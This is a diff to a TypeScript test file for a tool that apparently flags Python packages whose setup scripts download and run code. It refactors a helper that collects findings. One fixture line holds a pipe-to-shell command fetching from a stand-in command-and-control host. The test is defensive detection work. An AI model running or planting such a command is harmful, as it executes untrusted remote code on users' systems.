@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { analyzeFiles } from '../testing/analyze-wheel.ts';
+import { analyzeFiles, downloadsRun } from '../testing/analyze-wheel.ts';
 
 const METADATA = 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n';
 const FETCH = 'curl http://c2.weir.test/x | sh';
@@ -14,15 +14,13 @@ const manifest = (scripts: Readonly<Record<string, string>>, more: object = {}):
 /** Where a source distribution whose setup script does this says that a download is run, its edges and verdict. */
 async function seen(code: string, files: Readonly<Record<string, string>>) {
   const all = { 'PKG-INFO': METADATA, 'setup.py': setup(code), ...files };
-  const { edges, findings, judgement } = await analyzeFiles(all, 'own-1.0.tar.gz');
+  const result = await analyzeFiles(all, 'own-1.0.tar.gz');
   return {
-    fetching: findings
-      .filter(({ rule }) => rule === 'lifecycle-script/download-and-run')
-      .map(({ stage, location }) => `${stage} ${location?.file}:${location?.line}`),
-    edges: (edges ?? []).map(
+    fetching: downloadsRun(result),
+    edges: (result.edges ?? []).map(
       ({ channel, ecosystem, name, url }) => `${channel} ${ecosystem ?? '-'} ${name ?? url}`,
     ),
-    verdict: judgement.verdict,
+    verdict: result.judgement.verdict,
   };
 }
 
